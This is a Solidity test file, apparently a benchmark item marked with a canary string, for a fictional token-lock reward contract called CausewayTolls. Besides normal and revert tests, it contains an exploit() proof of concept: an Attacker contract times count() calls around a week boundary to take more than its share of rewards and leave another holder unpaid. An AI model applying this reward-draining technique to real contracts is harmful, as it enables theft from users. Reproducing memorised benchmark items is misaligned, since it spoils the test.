// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.24;

// assay-canary-bb84afcc-6050-4178-94ce-06124ac6b356

import "./CausewayTolls.sol";

interface Vm {
    function warp(uint256 timestamp) external;
    function prank(address sender) external;
    function expectRevert(bytes4 reason) external;
}

contract Paper is IAsset {
    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

/// Stock that can be handed in, at times, and never comes back.
contract Sieve is IAsset {
    bool public takes;

    function open() external {
        takes = true;
    }

    function transfer(address, uint256) external pure returns (bool) {
        return false;
    }

    function transferFrom(address, address, uint256) external view returns (bool) {
        return takes;
    }
}

contract Owner {
    CausewayTolls internal board;

    constructor(CausewayTolls board_, Paper stock) {
        board = board_;
        stock.approve(address(board_), type(uint256).max);
    }

    function lock(uint256 amount, uint256 weeksToRun) external {
        board.lock(amount, weeksToRun);
    }

    function prolong(uint256 weeksToRun) external {
        board.prolong(weeksToRun);
    }

    function takeTolls() external returns (uint256) {
        return board.takeTolls();
    }

    function unlock() external {
        board.unlock();
    }
}

/// An owner with a small lock, who calls count at moments of its choice.
contract Attacker is Owner {
    constructor(CausewayTolls board_, Paper stock) Owner(board_, stock) {}

    function count() external {
        board.count();
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant WEEK = 7 days;
    uint256 private constant EDGE = 2_960 * WEEK;
    uint256 private constant RATE = 5_000;

    Paper public stock;
    Paper public coin;
    CausewayTolls public board;
    Owner public north;
    Owner public south;
    Attacker public small;

    function setUp() public {
        vm.warp(EDGE + 3 days);
        stock = new Paper();
        coin = new Paper();
        board = new CausewayTolls(stock, coin);
        north = new Owner(board, stock);
        south = new Owner(board, stock);
        small = new Attacker(board, stock);
        stock.mint(address(north), 1_000e18);
        stock.mint(address(south), 900e18);
        stock.mint(address(small), 100e18);
        north.lock(900e18, 4);
        south.lock(900e18, 40);
        small.lock(100e18, 20);
        coin.mint(address(this), 100 * WEEK * RATE);
        coin.approve(address(board.purse()), type(uint256).max);
        board.purse().startSeason(RATE, 12 * WEEK);
        vm.warp(EDGE + 4 * WEEK - 2 hours);
    }

    function _near(uint256 got, uint256 expected) internal pure returns (bool) {
        return got + 10 >= expected && got <= expected + 10;
    }

    function test_Regular() public {
        uint256 start = EDGE + 3 days;
        uint256 edge = EDGE + 4 * WEEK;
        require(board.running() == 1_900e18, "three locks");
        uint256 first = north.takeTolls();
        require(_near(first, ((edge - 2 hours - start) * RATE * 9) / 19), "north so far");
        try north.unlock() {
            revert("unlocked early");
        } catch {}
        try north.lock(1, 1) {
            revert("two locks");
        } catch {}

        // The edge goes by between two calls; the north has its part up to the edge and nothing later.
        vm.warp(edge + 2 days);
        require(board.running() == 1_000e18, "two locks");
        require(_near(north.takeTolls() + first, ((edge - start) * RATE * 9) / 19), "north up to its edge");
        require(board.total() == 1_000e18, "taken off");
        try north.prolong(9) {
            revert("prolonged when over");
        } catch {}
        north.unlock();
        require(stock.balanceOf(address(north)) == 1_000e18, "stock is back");
        require(_near(small.takeTolls(), ((edge - start) * RATE) / 19 + (2 days * RATE) / 10), "small");

        // Locked anew for one week, prolonged to two, counted week by week.
        north.lock(1_000e18, 1);
        north.prolong(2);
        require(board.endingAt(edge + WEEK) == 0 && board.endingAt(edge + 2 * WEEK) == 1_000e18, "moved");
        vm.warp(edge + WEEK + 1 days);
        board.count();
        require(board.total() == 2_000e18, "still running");
        vm.warp(edge + 3 * WEEK + 1);
        require(_near(north.takeTolls(), ((2 * WEEK - 2 days) * RATE) / 2), "half of the tolls");
        require(board.total() == 1_000e18, "over again");

        // After the season nothing more runs.
        vm.warp(start + 13 * WEEK);
        small.takeTolls();
        vm.warp(start + 14 * WEEK);
        require(small.takeTolls() == 0, "season is over");
        south.takeTolls();
        require(_near(coin.balanceOf(address(board.purse())), 0), "all handed out");
    }

    // What is refused, each from the state after setUp().

    function test_RefusesNothing() public {
        vm.expectRevert(CausewayTolls.NothingLocked.selector);
        board.lock(0, 1);
        vm.expectRevert(CausewayTolls.NothingLocked.selector);
        board.unlock();
    }

    function test_RefusesWeeks() public {
        vm.expectRevert(CausewayTolls.WeeksOutOfRange.selector);
        board.lock(1, 0);
        vm.expectRevert(CausewayTolls.WeeksOutOfRange.selector);
        board.lock(1, 53);
        // The south's lock ends 37 weeks from this one.
        vm.prank(address(south));
        vm.expectRevert(CausewayTolls.WeeksOutOfRange.selector);
        board.prolong(37);
    }

    function test_RefusesStockThatDoesNotMove() public {
        Sieve sieve = new Sieve();
        CausewayTolls other = new CausewayTolls(sieve, coin);
        vm.expectRevert(CausewayTolls.StockRefused.selector);
        other.lock(1, 1);
        sieve.open();
        other.lock(1, 1);
        vm.warp(block.timestamp + 2 * WEEK);
        vm.expectRevert(CausewayTolls.StockRefused.selector);
        other.unlock();
    }

    function exploit() public {
        uint256 edge = EDGE + 4 * WEEK;
        vm.warp(edge);
        small.count();
        vm.warp(edge + 1);
        small.count();
        vm.warp(EDGE + 12 * WEEK);
        small.takeTolls();
    }

    function test_Exploit() public {
        uint256 before = coin.balanceOf(address(small));
        exploit();
        require(coin.balanceOf(address(small)) >= before + 8 * WEEK * RATE, "no more than its part");
        // Nothing is left for the south, which has waited with its tolls.
        try south.takeTolls() {
            revert("south was paid");
        } catch {}
    }

    function target() public view returns (address) {
        return address(board);
    }

    function attacker() public view returns (address) {
        return address(small);
    }
}
